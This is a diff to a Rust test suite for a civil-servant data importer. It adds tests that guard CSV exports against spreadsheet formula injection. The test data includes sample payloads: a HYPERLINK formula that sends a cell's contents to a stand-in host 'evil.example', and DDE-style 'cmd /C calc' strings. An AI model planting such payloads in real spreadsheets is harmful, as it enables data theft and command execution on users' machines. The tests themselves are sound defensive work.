@@ -19,7 +19,9 @@ use talenta_domain::{
     AsnKind, BidangIlmu, Golongan, GolonganPppk, Jenjang, Nip, Rating, Score, TingkatPendidikan,
 };
 use talenta_ingest::delimited::Table;
-use talenta_ingest::{CsvSink, Kind, RecordKind, Reference, RowError, Target};
+use talenta_ingest::{
+    Cell, Column, CsvSink, CsvTable, Kind, RecordKind, Reference, RowError, Target,
+};
 use time::{Date, Month};
 
 // ---------------------------------------------------------------------------
@@ -104,9 +106,10 @@ fn nine_kompetensi() -> Vec<Kompetensi> {
 // Strategies
 
 /// Text as people type it: commas, quotes, semicolons, line breaks,
-/// accents and dashes; no surrounding blanks (cells are trimmed).
+/// accents and dashes, and what a spreadsheet takes for a formula; no
+/// surrounding blanks (cells are trimmed).
 fn text() -> impl Strategy<Value = String> {
-    "[A-Za-z0-9 ,;\"'./()\n&éñüÖ–’]{1,24}"
+    "[=+@'-]?[A-Za-z0-9 ,;\"'./()\n&éñüÖ–’=+@-]{1,24}"
         .prop_map(|s| s.trim().to_owned())
         .prop_filter("blank", |s| !s.is_empty())
 }
@@ -648,6 +651,84 @@ fn sink_writes_the_header_and_quotes_only_where_needed() {
     assert_eq!(
         text,
         "unorId,unorNama,unorIndukId\nDINKES,Dinas Kesehatan,\nDINKES-YANKES,\"Bidang \"\"Pelayanan\"\", Kesehatan\",DINKES\n"
+    );
+}
+
+/// Text that a spreadsheet would run as a formula is written with one `'`
+/// in front and read back without it; a text that starts with `'` keeps
+/// it; a number column is written as it is.
+#[test]
+fn formulas_are_guarded_in_text_columns_and_come_back_exact() {
+    let evil = Pegawai {
+        nama: "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")".into(),
+        gelar_depan: Some("-5".into()),
+        gelar_belakang: Some("'quoted".into()),
+        tempat_lahir: Some("+cmd|' /C calc'!A0".into()),
+        agama: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
+        no_hp: Some("+6281234567890".into()),
+        ..siti(None)
+    };
+    assert_round_trip(std::slice::from_ref(&evil));
+    let (text, _) = write_and_read(&[evil]);
+    let cells: Vec<String> = csv::ReaderBuilder::new()
+        .from_reader(text.as_bytes())
+        .records()
+        .next()
+        .unwrap()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
+    assert_eq!(
+        cells[1],
+        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")"
+    );
+    assert_eq!(cells[2], "'-5");
+    assert_eq!(cells[3], "''quoted");
+    assert_eq!(cells[5], "'+cmd|' /C calc'!A0");
+    assert_eq!(cells[17], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cells[20], "'+6281234567890");
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "unguarded cell {cell:?}"
+        );
+    }
+
+    // A number column is not marked: a cost of -5 stays a number.
+    let columns = [Column::required("label"), Column::required("cost").number()];
+    let mut table = CsvTable::new(Vec::new(), &columns).unwrap();
+    table.write(["-5", "-5"]).unwrap();
+    let written = String::from_utf8(table.finish().unwrap()).unwrap();
+    assert_eq!(written, "label,cost\n'-5,-5\n");
+    let mut read = Table::open(written.as_bytes(), &columns).unwrap();
+    let record = read.next_record().unwrap().unwrap();
+    assert_eq!(
+        (record.get(0).unwrap(), record.get(1).unwrap()),
+        ("-5", "-5")
+    );
+}
+
+/// A hand-made file may mark a text as Excel users do (`'0812…`, a NIP as
+/// `'196…`): the importer takes the mark off, as it takes off the one an
+/// export writes.
+#[test]
+fn a_marked_value_in_a_hand_made_file_loses_its_mark() {
+    let text = format!(
+        "{PEGAWAI_HEADER}\n'{SITI},''Siti,,,P,'Serang,15-03-1985,PNS,,,,,DINKES,,,,,,,,'0812\n"
+    );
+    let pegawai: Pegawai = one(&text);
+    assert_eq!(pegawai.nip.as_str(), SITI);
+    assert_eq!(pegawai.nama, "'Siti");
+    assert_eq!(pegawai.tempat_lahir.as_deref(), Some("Serang"));
+    assert_eq!(pegawai.no_hp.as_deref(), Some("0812"));
+    // A number column keeps what it is given: a mark there is not a number.
+    let skp = errors::<Skp>(&format!(
+        "nipBaru,tahun,hasilKinerja,perilakuKerja\n{SITI},'2024,sesuai_ekspektasi,sesuai_ekspektasi\n"
+    ));
+    assert_eq!(
+        skp,
+        ["line 2, column 2 (tahun): value \"'2024\": not a year: expected yyyy from 2000 to 2100"]
     );
 }
 
@@ -1215,5 +1296,34 @@ proptest! {
         survives::<RiwayatHukdis>(&rows)?;
         survives::<Skp>(&rows)?;
         survives::<Asesmen>(&rows)?;
+    }
+}
+
+/// The columns docs/formats.md lists as numbers ("Formulas in CSV files")
+/// are the kinds' number columns, and no other kind column is one.
+#[test]
+fn number_columns_are_the_documented_ones() {
+    let doc = formats_md();
+    let paragraph = doc
+        .split("\n\n")
+        .find(|p| p.starts_with("Number columns are written"))
+        .unwrap();
+    let mut documented = backticked(paragraph);
+    let jabatan: Vec<String> = table_after(&doc, "### `jabatan`")
+        .iter()
+        .flat_map(|row| backticked(&row[0]))
+        .collect();
+    let from = jabatan.iter().position(|n| n == "integritas").unwrap();
+    let to = jabatan.iter().position(|n| n == "perekatBangsa").unwrap();
+    documented.extend(jabatan[from..=to].iter().cloned());
+    for kind in Kind::ALL {
+        for column in kind.columns() {
+            assert_eq!(
+                column.cell == Cell::Number,
+                documented.iter().any(|d| d == column.name),
+                "{kind}: {}",
+                column.name
+            );
+        }
     }
 }
